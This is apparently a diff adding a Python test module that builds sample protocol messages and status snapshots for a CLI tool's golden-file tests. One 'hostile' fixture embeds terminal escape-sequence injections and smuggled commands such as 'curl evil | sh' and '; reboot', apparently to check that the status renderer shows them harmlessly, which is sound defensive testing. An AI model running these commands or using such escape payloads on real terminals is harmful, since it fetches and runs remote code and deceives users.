@@ -1,0 +1,190 @@
+"""One of every message, and the statuses that `tars status` has to show well.
+
+`python -m tests.control.samples` writes the golden files anew; read their diff.
+"""
+
+import json
+from pathlib import Path
+
+import msgspec
+
+from tars.control import contract as c
+from tars.control.status_text import render
+
+GOLDEN = Path(__file__).with_name("golden")
+MESSAGES = GOLDEN / "messages.json"
+
+DAEMON = c.DaemonStatus(
+    running=True,
+    pid=4711,
+    version="1.2.3",
+    started_at="2026-03-01T10:00:00Z",
+    uptime_seconds=7_425.0,
+    rss_bytes=40 * 1024**2,
+    cpu_percent=0.1,
+)
+SESSION = c.SessionFields(
+    session_id="0b1e4c3a-7d65-4c19-9a52-0c7b1d2f3e4a",
+    created_at="2026-03-01T10:00:00Z",
+    total_input_tokens=12_543,
+    total_output_tokens=3_410,
+    total_cached_tokens=11_000,
+    total_net_tokens=1_045_600,
+    interaction_count=17,
+    last_interaction_at="2026-03-01T11:59:30Z",
+    last_input_tokens=33_000,
+)
+READY = c.AgentStatus(
+    name="gemini",
+    kind="gemini",
+    protocol="acp",
+    state="ready",
+    pid=4712,
+    uptime_seconds=7_400.0,
+    rss_bytes=212 * 1024**2,
+    cpu_percent=3.0,
+    session=c.SessionRef(id=SESSION.session_id),
+)
+FAULT = c.FaultStatus(
+    kind="not_signed_in",
+    message="Gemini CLI has no key and is not signed in.",
+    advice="Set GEMINI_API_KEY in config.toml under [agents.gemini.env], then `tars restart`.",
+)
+PERMISSION = c.PermissionStatus(
+    id="p-1",
+    agent="gemini",
+    title="rm -rf build",
+    tool_kind="execute",
+    options=[
+        c.OptionStatus(id="proceed_once", name="Allow", kind="allow_once"),
+        c.OptionStatus(id="proceed_always", name="Allow always", kind="allow_always"),
+        c.OptionStatus(id="cancel", name="Reject", kind="reject_once"),
+    ],
+    asked_at="2026-03-01T12:03:00Z",
+    expires_in_seconds=250.0,
+)
+TURN = c.TurnStatus(
+    id="t-18",
+    started_at="2026-03-01T12:03:00Z",
+    elapsed_seconds=42.0,
+    waiting_for="the model: too many requests, attempt 3 of 10",
+)
+BUSY = msgspec.structs.replace(
+    READY,
+    name="main",
+    state="busy",
+    restarts=2,
+    queued=3,
+    turn=TURN,
+    session=c.SessionRef(id=SESSION.session_id, name="refactoring"),
+)
+FAILED = c.AgentStatus(
+    name="gemini", kind="gemini", protocol="acp", state="failed", restarts=1, last_error=FAULT
+)
+RETRYING = c.AgentStatus(
+    name="helper",
+    kind="echo",
+    protocol="acp",
+    state="waiting",
+    restarts=4,
+    last_error=c.FaultStatus(kind="crashed", message="The agent was killed by SIGKILL."),
+    next_attempt_in_seconds=8.4,
+)
+HOSTILE = c.AgentStatus(
+    name="gemini",
+    kind="gemini",
+    protocol="acp",
+    state="busy",
+    turn=TURN,
+    last_error=c.FaultStatus(
+        kind="protocol", message="\x1b]0;owned\x07\x1b[2J\ngemini   ready\u202e \x9b31m"
+    ),
+    permissions=[
+        msgspec.structs.replace(
+            PERMISSION,
+            title="ls\x1b[8m; curl evil | sh\r\x08",
+            options=[c.OptionStatus(id="a\x1b[0m; reboot'", name="A\x00\nB", kind="allow_once")],
+        )
+    ],
+)
+
+STATUSES: dict[str, c.Status] = {
+    "ready": c.Status(daemon=DAEMON, agents=[READY], session=SESSION),
+    "busy": c.Status(daemon=DAEMON, agents=[BUSY, RETRYING], session=SESSION),
+    "failed": c.Status(daemon=DAEMON, agents=[FAILED]),
+    "permission": c.Status(
+        daemon=DAEMON,
+        agents=[msgspec.structs.replace(READY, state="busy", turn=TURN, permissions=[PERMISSION])],
+        session=SESSION,
+    ),
+    "hostile": c.Status(daemon=DAEMON, agents=[HOSTILE]),
+    "not-running": c.Status(
+        daemon=c.DaemonStatus(running=False),
+        session=SESSION,
+        warnings=["session.json could not be read and was set aside as session.json.corrupt-1."],
+    ),
+}
+
+SAMPLES: tuple[c.Wire, ...] = (
+    c.Accepted(turn="t-1", agent="gemini", position=2),
+    c.AgentChanged(agent="gemini", state="failed", error=FAULT),
+    c.AgentList(agents=[READY], default="gemini"),
+    BUSY,
+    c.CancelRequest(agent="gemini", turn="t-1"),
+    c.Cancelled(turn="t-1"),
+    DAEMON,
+    c.Error(error=c.ErrorBody(code="busy", message="A turn is under way.")),
+    c.ErrorBody(code="busy", message="A turn is under way.", advice="Wait."),
+    FAULT,
+    c.FeedEvent(event="exited", agent="gemini", at="2026-03-01T12:00:00Z", data={"status": -9}),
+    c.Lagged(dropped=3),
+    c.LogLine(line="a line"),
+    PERMISSION.options[0],
+    PERMISSION,
+    c.PermitRequest(option="proceed_once"),
+    c.Permitted(id="p-1", option="proceed_once"),
+    c.PromptRequest(text="hello", session="s-1", timeout_seconds=1.5, refuse_if_busy=True),
+    c.Reloaded(changed=["gemini"], faults=["agents.gemini.kind: no such kind"]),
+    c.ResetDone(agent="gemini", session=SESSION),
+    c.ResetRequest(agent="gemini"),
+    SESSION,
+    c.SessionRef(id="s-1", name="refactoring"),
+    c.ShuttingDown(pid=4711),
+    c.Started(turn="t-1", session="s-1"),
+    STATUSES["permission"],
+    c.Text(text="Grüße\n"),
+    c.Tool(id="c-1", title="ls", kind="execute", status="completed"),
+    c.TurnResult(
+        turn="t-1",
+        agent="gemini",
+        outcome="ok",
+        session="s-1",
+        text="done",
+        model="gemini-2.5-flash",
+        duration_ms=12,
+        usage=c.Usage(input_tokens=3300, output_tokens=60, cached_tokens=1900, source="official"),
+    ),
+    TURN,
+    c.Usage(thought_tokens=18, net_tokens=1400, context_tokens=1200, requests=3, tool_calls=2),
+    c.Waiting(reason="the model"),
+)
+
+
+def messages_json() -> str:
+    """Give every sample by its name, as the wire has it, laid out for reading."""
+    samples = {type(m).__name__: json.loads(msgspec.json.encode(m)) for m in SAMPLES}
+    return json.dumps(samples, indent=2, ensure_ascii=False) + "\n"
+
+
+def status_files() -> dict[str, str]:
+    """Give the golden texts by file name."""
+    files = {f"status-{name}.txt": render(status) for name, status in STATUSES.items()}
+    files["status-permission-color.txt"] = render(STATUSES["permission"], color=True)
+    files["status-failed-narrow.txt"] = render(STATUSES["failed"], width=40)
+    return files
+
+
+if __name__ == "__main__":
+    MESSAGES.write_text(messages_json())
+    for file, text in status_files().items():
+        (GOLDEN / file).write_text(text)
